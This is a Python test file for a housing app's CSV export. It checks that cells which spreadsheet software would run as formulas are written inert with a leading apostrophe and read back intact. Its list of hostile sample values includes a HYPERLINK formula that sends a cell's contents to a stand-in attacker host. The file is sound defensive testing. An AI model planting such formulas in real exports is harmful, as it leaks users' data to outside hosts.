"""`flatapp homes --format csv` and the other exports: text that Excel would run is written inert."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from flatapp.cli import main
from flatapp.domain.export_cells import FORMULA_START, restore
from flatapp.storage.models import Home

HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Klik hier")', "+31 6 12345678", "-2", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=al ontsnapt"]


def test_homes_as_csv_never_writes_a_live_formula(database, make_building, tmp_path, capsys):
    building_id = make_building("Testflat", [("A", 0, n) for n in range(1, 9)])
    with database.session() as session, session.begin():
        homes = session.scalars(select(Home).where(Home.building_id == building_id).order_by(Home.id)).all()
        for home, text in zip(homes, HOSTILE):
            home.street, home.addition, home.city = text, text, text
    assert main(["homes", "--building", "Testflat", "--format", "csv", "--db", str(tmp_path / "test.sqlite")]) == 0
    first, rest = capsys.readouterr().out.split("\n", 1)
    assert first.startswith("# Vertrouwelijk — ")            # the tier first, then the table
    rows = list(csv.DictReader(io.StringIO(rest)))
    assert len(rows) == 8
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # 8 homes × 3 hostile fields: every one written with a leading apostrophe, and read back exactly.
    written = [(row["street"], row["addition"], row["city"]) for row in rows]
    assert written == [("'" + text,) * 3 for text in HOSTILE]
    assert [restore(row["street"]) for row in rows] == HOSTILE
    assert [row["house_number"] for row in rows] == [str(n) for n in range(1, 9)]     # numbers stay numbers
